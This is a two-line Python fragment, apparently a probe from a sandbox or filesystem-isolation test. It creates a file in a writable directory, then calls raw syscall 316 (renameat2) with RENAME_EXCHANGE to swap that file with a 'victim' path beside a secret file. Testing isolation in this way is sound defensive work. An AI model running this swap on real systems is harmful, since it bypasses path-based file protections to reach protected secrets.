open(E['WRITE']+'/x','w').write('x')
syscall(316, -100, (E['WRITE']+'/x').encode(), -100, (os.path.dirname(E['SECRET_FILE'])+'/victim').encode(), 2)
